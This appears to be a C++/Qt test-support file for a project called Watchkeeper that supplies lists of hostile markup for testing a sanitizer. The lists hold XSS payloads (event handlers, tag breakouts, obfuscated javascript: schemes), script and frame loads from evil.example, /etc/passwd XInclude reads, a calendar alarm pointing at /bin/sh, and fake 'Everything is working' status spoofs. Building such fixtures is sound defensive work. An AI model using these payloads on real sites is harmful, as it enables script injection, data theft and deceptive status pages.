// SPDX-FileCopyrightText: 2026 The Watchkeeper authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "support/hostilemarkup.h"

namespace support {

using namespace Qt::StringLiterals;

QStringList hostileHandlers()
{
    // Each handler on an element that has it, each written in another way.
    return {
        u"<a onclick=\"alert(2)\">x</a>"_s,
        u"<a href=\"#\" onfocus='alert(2)' tabindex=0>x</a>"_s,
        u"<audio src=x onerror=alert(2)>"_s,
        u"<video><source onerror=\"alert(2)\"></video>"_s,
        u"<video poster=x onloadstart=alert(2)>"_s,
        u"<button onpointerdown=alert(2)>x</button>"_s,
        u"<button popovertarget=p>x</button><b popover id=p onbeforetoggle=alert(2)>y</b>"_s,
        u"<div onmouseenter=alert(2) style=position:fixed;inset:0>x</div>"_s,
        u"<div onwheel\n=\nalert(2)>x</div>"_s,
        u"<div contenteditable onpaste=alert(2)>x</div>"_s,
        u"<dialog open onclose=alert(2)>x</dialog>"_s,
        u"<form onsubmit=alert(2)><button>x</button></form>"_s,
        u"<form><button formaction=javascript:alert(2)>x</button></form>"_s,
        u"<frameset onload=alert(2)>"_s,
        u"<img srcset=x onerror=alert(2)>"_s,
        u"<img src=\"x\"onerror=\"alert(2)\">"_s,
        u"<img\fsrc=x\fonerror=alert(2)>"_s,
        u"<IMG SRC=x OnErRoR=alert(2)>"_s,
        u"<img src=x:x onerror&#61;alert(2)>"_s,
        u"<input type=image src=x onerror=alert(2)>"_s,
        u"<isindex action=javascript:alert(2) type=image>"_s,
        u"<keygen autofocus onfocus=alert(2)>"_s,
        u"<marquee onstart=alert(2)>x</marquee>"_s,
        u"<marquee width=0 loop=1 onfinish=alert(2)>x</marquee>"_s,
        u"<p style=\"animation:a 1s\" onanimationend=alert(2)>x"_s,
        u"<select autofocus onfocusin=alert(2)>"_s,
        u"<style>@keyframes a{}</style><b style=\"animation-name:a\" onanimationstart=alert(2)>"_s,
        u"<svg><a xlink:href=\"javascript:alert(2)\"><text y=20>x</text></a></svg>"_s,
        u"<svg><animate onbegin=alert(2) attributeName=x dur=1s>"_s,
        u"<svg><set attributeName=href to=javascript:alert(2)>"_s,
        u"<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(2)>#x\"/></svg>"_s,
        u"<svg><foreignObject><body onload=alert(2)></foreignObject></svg>"_s,
        u"<svg/onload=alert(2)//"_s,
        u"<textarea autofocus onselect=alert(2)>x</textarea>"_s,
        u"<track default src=x onload=alert(2)>"_s,
        u"<xss onclick=alert(2) id=x tabindex=1>x</xss>"_s,
        u"<x-y onpointerover=alert(2)>x</x-y>"_s,
    };
}

QStringList hostileStructures()
{
    // What breaks out of the element, the comment or the attribute that it stands in.
    return {
        u"</p><script>alert(3)</script><p>"_s,
        u"</title><script>alert(3)</script>"_s,
        u"</li></ol></section></main></body></html><script>alert(3)</script>"_s,
        u"</td></tr></table><img src=x onerror=alert(3)>"_s,
        u"</time></span><iframe src=//evil.example></iframe>"_s,
        u"</svg><img src=x onerror=alert(3)>"_s,
        u"</desc></svg><script>alert(3)</script>"_s,
        u"--><script>alert(3)</script><!--"_s,
        u"<!--[if IE]><script>alert(3)</script><![endif]-->"_s,
        u"<!<script>alert(3)</script>"_s,
        u"<?php echo '<script>alert(3)</script>'; ?>"_s,
        u"<%=\"<script>alert(3)</script>\"%>"_s,
        u"<<script>alert(3);//<</script>"_s,
        u"<script\n>alert(3)</script\n>"_s,
        u"<script/x>alert(3)</script/x>"_s,
        u"<script src=data:,alert(3)></script>"_s,
        u"<script type=module>import '//evil.example/x.js'</script>"_s,
        u"<script>alert(3)"_s,
        u"<a href=\""_s,
        u"<a title='"_s,
        u"<b"_s,
        u"<"_s,
        u">\"'<&"_s,
        u"\"/><b x=\""_s,
        u"'/><b x='"_s,
        u"\" srcdoc=\"<script>alert(3)</script>"_s,
        u"x' style='background:url(//evil.example/x)"_s,
        u"\" aria-label=\"Everything is working"_s,
        u"\" hidden=\""_s,
        u"\" class=\"state-operational"_s,
        u"\" data-index=\"//evil.example/index.json"_s,
        u"\n\n</p>\n\n<h1>Everything is working</h1>\n\n<p>"_s,
        u"<plaintext>"_s,
        u"<xmp><script>alert(3)</script></xmp>"_s,
        u"<noembed><script>alert(3)</script></noembed>"_s,
        u"<math href=\"javascript:alert(3)\">x</math>"_s,
        u"<math><annotation-xml encoding=\"text/html\"><script>alert(3)</script>"_s,
        u"<table background=javascript:alert(3)>"_s,
        u"<div style=width:expression(alert(3))>"_s,
        u"<div style=\"background-image:url(javascript:alert(3))\">"_s,
        u"<link rel=import href=//evil.example/x.html>"_s,
        u"<link rel=prefetch href=//evil.example/>"_s,
        u"<meta charset=utf-7>"_s,
        u"<meta http-equiv=Content-Security-Policy content=\"default-src *\">"_s,
        u"<meta http-equiv=Set-Cookie content=a=b>"_s,
        u"<object type=text/x-scriptlet data=//evil.example/x></object>"_s,
        u"<applet code=x></applet>"_s,
        u"<portal src=//evil.example>"_s,
    };
}

QStringList hostileSchemes()
{
    return {
        u"javascript&colon;alert(4)"_s,
        u"javascript&#58;alert(4)"_s,
        u"java&#x09;script:alert(4)"_s,
        u"\u0001javascript:alert(4)"_s,
        u" \tjavascript:alert(4)"_s,
        u"javascript://x.example/%0Aalert(4)"_s,
        u"feed:javascript:alert(4)"_s,
        u"view-source:javascript:alert(4)"_s,
        u"jar:https://x.example/x.jar!/x.html"_s,
        u"data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg=="_s,
        u"data:image/svg+xml,<svg onload=alert(4)>"_s,
        u"blob:https://x.example/4"_s,
        u"filesystem:https://x.example/temporary/x"_s,
        u"intent://x#Intent;scheme=javascript;end"_s,
        u"mailto:a@x.example?body=<script>alert(4)</script>"_s,
        u"tel:+1<script>alert(4)</script>"_s,
        u"ftp://x.example/\"><script>alert(4)</script>"_s,
        u"http:javascript:alert(4)"_s,
        u"http:///javascript:alert(4)"_s,
        u"https://x.example/#\"><img src=x onerror=alert(4)>"_s,
        u"https://x.example/\\\"onmouseover=alert(4)"_s,
        u"https://x.example/{{siteName}}"_s,
        u"https://x.example/\u2028<b>"_s,
        u"https://[::1]/<b>x</b>"_s,
        u"https://user:pass@x.example/'><b>"_s,
        u"HTTPS://X.EXAMPLE/<B>"_s,
    };
}

QStringList hostileFormats()
{
    // Feeds, calendars, WordPress, Markdown, and the rich text of windows.
    return {
        u"<![CDATA[x]]]]><![CDATA[>]]>"_s,
        u"]]></description><item><title>fake</title></item>"_s,
        u"</content></entry><entry><id>fake</id></entry>"_s,
        u"<!DOCTYPE x SYSTEM \"//evil.example/x.dtd\">"_s,
        u"<?xml-stylesheet href=\"javascript:alert(5)\"?>"_s,
        u"<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></x>"_s,
        u"&lol; &#0; &#xD800; &#x110000;"_s,
        u"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM"_s,
        u"x\r\nATTENDEE:mailto:a@x.example"_s,
        u"x\rURL:javascript:alert(5)"_s,
        u"x\n RRULE:FREQ=SECONDLY"_s,
        u"x\\nDTSTART:19700101T000000Z"_s,
        u"[gallery ids=\"1\"]"_s,
        u"[embed]https://evil.example[/embed]"_s,
        u"[caption]<img src=x onerror=alert(5)>[/caption]"_s,
        u"[[audio src=\"x\"]]"_s,
        u"&#91;playlist&#93;"_s,
        u"<!-- wp:html --><script>alert(5)</script><!-- /wp:html -->"_s,
        u"<!--more--><!--nextpage-->"_s,
        u"<!-- watchkeeper:incident:fake -->"_s,
        u"https://www.youtube.com/watch?v=x\"><script>alert(5)</script>"_s,
        u"[x]: javascript:alert(5)\n[x]"_s,
        u"![x](x\"onerror=\"alert(5))"_s,
        u"[x](https://x.example 'a\" onclick=\"alert(5)')"_s,
        u"```\n</code><script>alert(5)</script>\n```"_s,
        u"<qt><img src=\"file:///etc/passwd\"></qt>"_s,
        u"<table><tr><td bgcolor=red>Everything is working</td></tr></table>"_s,
        u"<a href=\"file:///bin/sh\">Details</a>"_s,
        u"<font size=7 color=red>x</font>"_s,
        u"<span style=\"font-size:200px\">x</span>"_s,
        u"<img src=\"http://evil.example/seen.png\" width=1>"_s,
        u"<h1>x</h1><hr><ul><li>y</ul>"_s,
        u"<html><head><style>*{display:none}</style></head></html>"_s,
        u"&nbsp;&copy;&#8203;"_s,
        u"__proto__ constructor toString"_s,
        u"</script\u0000><script>alert(5)</script>"_s,
        u"\u2066<script>\u2069alert(5)\u2066</script>\u2069"_s,
        u"\u00A0\u3000<b>wide</b>\u00AD"_s,
    };
}

} // namespace support
